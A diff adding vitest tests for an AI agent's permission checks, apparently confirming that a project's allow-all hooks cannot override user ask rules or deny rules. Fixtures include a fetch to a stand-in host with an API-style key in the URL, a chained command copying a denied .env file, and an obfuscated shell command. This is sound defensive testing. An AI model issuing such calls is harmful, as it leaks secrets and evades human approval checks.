@@ -1,10 +1,11 @@
-import { existsSync, readFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import type { SessionOptions } from "../../src/app/index.ts";
+import { addTrust, loadProjectSettings, type SessionOptions } from "../../src/app/index.ts";
 import type { Approvals } from "../../src/ports/index.ts";
 import type { HookRecord, JsonObject, Line, RunUpdate, Settings } from "../../src/protocol/index.ts";
-import { lastWords, newPlace, open, type Place, read, resultsIn, type Walk, walk } from "./delegation-place.ts";
+import { mergeSettings } from "../../src/settings/merge-settings.ts";
+import { lastWords, newPlace, open, type Place, read, resultsIn, task, type Walk, walk } from "./delegation-place.ts";
 
 const write = (content = "made") => ({ name: "Write", input: { file_path: "made.txt", content } });
 const once = (call: { name: string; input: unknown }) => ({ MAIN: [{ calls: [call] }, { text: "Done." }] });
@@ -72,6 +73,74 @@ describe("a hook before a call", () => {
     expect(made(await walk(once(write()), { settings, ...projects, ...asks }))).toBeUndefined();
     expect(made(await walk(once(write()), { settings, ...asks }))).toBe("made");
     expect(made(await walk(once(write()), { settings, ...projects }))).toBe("made");
+  });
+
+  const allowAll = { command: says({ decision: "allow" }) };
+  const shell = (command: string) => ({ name: "Bash", input: { command } });
+  const askRule = (text: string, scope: "user" | "project"): SessionOptions => ({
+    rules: [{ text, effect: "ask", scope }],
+  });
+  const denyEnv: SessionOptions = { rules: [{ text: "Read(.env)", effect: "deny", scope: "project" }] };
+
+  // Each of these calls needs a person even if the project has the rules `Bash`, `Write` and `WebFetch`.
+  it.each<[string, { name: string; input: unknown }, SessionOptions]>([
+    ["a URL with a key", { name: "WebFetch", input: { url: `https://x.example/?q=sk-${"a".repeat(20)}` } }, {}],
+    ["a command that mentions a denied file", shell("touch made.txt; cp .env made.txt"), denyEnv],
+    ["a command that hides what it runs", shell("x=touch; $x made.txt"), askRule("Bash(rm:*)", "user")],
+    ["what the project wants to be asked", write(), askRule("Write", "project")],
+    ["what the user wants to be asked", shell("touch made.txt"), askRule("Bash(touch:*)", "user")],
+    [
+      "a line on which the project asks about one command and the user about another",
+      shell("touch made.txt; mkdir x"),
+      {
+        rules: [
+          { text: "Bash(touch:*)", effect: "ask", scope: "project" },
+          { text: "Bash(mkdir:*)", effect: "ask", scope: "user" },
+        ],
+      },
+    ],
+    ["a plan", { name: "ExitPlanMode", input: { plan: "x" } }, { permissionMode: "plan", onAsk: "hook" }],
+  ])("of a project does not allow %s", async (_, call, options) => {
+    for (const event of ["PreToolUse", "PermissionRequest"]) {
+      const ofProject = mergeSettings([{ scope: "project", values: { hooks: { [event]: [allowAll] } } }]);
+      const walked = await walk(once(call), {
+        ...options,
+        settings: ofProject.settings,
+        settingsOrigins: ofProject.origins,
+      });
+      expect(walked.result.facts.denied).toMatchObject([{ tool: call.name }]);
+      expect(made(walked)).toBeUndefined();
+    }
+  });
+
+  it("of a project's agent does not allow what the user wants to be asked, but allows other calls", async () => {
+    const at = newPlace();
+    mkdirSync(join(at.cwd, ".agents/agents"), { recursive: true });
+    const hook = `hooks:\n  PreToolUse:\n    - command: ${JSON.stringify(allowAll.command)}\n`;
+    const agent = `---\nname: guard\ndescription: Guards.\n${hook}---\nWork.\n`;
+    writeFileSync(join(at.cwd, ".agents/agents/guard.md"), agent);
+    const environment = { HOME: at.home, PATH: process.env["PATH"] ?? "" };
+    await addTrust({ ...at, environment });
+    const loaded = loadProjectSettings({ ...at, environment, trust: false });
+    const work = { MAIN: [{ calls: [task("CHILD: go", { subagent_type: "guard" })] }, { text: "Done." }] };
+    const parts = { ...work, CHILD: [{ calls: [write(), shell("touch other.txt")] }, { text: "Seen." }] };
+    const options = { ...askRule("Write", "user"), at, environment, trusted: true, catalogSettings: loaded };
+    const walked = await walk(parts, options);
+    expect(existsSync(join(at.cwd, "other.txt"))).toBe(true);
+    expect(made(walked)).toBeUndefined();
+  });
+
+  it.each<[string, JsonObject | readonly JsonObject[], JsonObject]>([
+    ["an object", allowAll, {}],
+    ["a list", [allowAll], {}],
+    ["an object that the user's settings begin", allowAll, { matcher: "*" }],
+  ])("belongs to the project that has it in its settings as %s", async (_, hook, ofUser) => {
+    const { settings, origins } = mergeSettings([
+      { scope: "user", values: { hooks: { PreToolUse: ofUser } } },
+      { scope: "project", values: { hooks: { PreToolUse: hook } } },
+    ]);
+    const walked = await walk(once(write()), { settings, settingsOrigins: origins, ...askRule("Write", "user") });
+    expect(made(walked)).toBeUndefined();
   });
 
   it("changes its input, and the changed input is what is run", async () => {
